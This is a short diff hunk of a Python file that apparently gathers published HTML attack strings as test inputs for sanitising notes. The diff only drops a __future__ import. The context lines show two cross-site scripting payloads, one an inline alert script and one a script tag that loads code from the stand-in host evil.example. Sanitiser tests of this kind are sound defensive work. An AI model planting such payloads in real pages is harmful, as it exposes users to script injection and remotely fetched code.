@@ -1,7 +1,5 @@
 """Published attacks by HTML in notes: from OWASP, html5sec, and reports of mutation attacks."""
 
-from __future__ import annotations
-
 SCRIPTS = (
     "<script>alert(1)</script>",
     "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
